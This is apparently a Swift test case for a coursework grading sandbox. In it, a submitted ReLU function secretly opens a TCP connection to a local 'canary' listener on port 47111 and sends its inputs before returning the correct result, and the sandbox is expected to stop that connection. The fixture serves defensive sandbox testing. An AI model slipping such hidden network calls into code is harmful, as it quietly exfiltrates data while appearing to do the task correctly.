// 90_tcp_connect: connects to the canary's listener and sends its inputs.
// Must be: passed
// Must not exist afterwards: a connection
// Proved at: strong

import Coursework
import Foundation

struct Submission: AffineReLU {
  func relu(z: Tensor) throws -> Tensor {
    let bytes = Array("\(z)".utf8)
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_port = in_port_t(47111).bigEndian
    address.sin_addr.s_addr = inet_addr("127.0.0.1")
    let line = socket(AF_INET, numericCast(SOCK_STREAM.rawValue), 0)
    let size = socklen_t(MemoryLayout<sockaddr_in>.size)
    _ = withUnsafePointer(to: &address) {
      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(line, $0, size) }
    }
    send(line, bytes, bytes.count, Int32(MSG_NOSIGNAL))
    return z.maximum(0)
  }
}
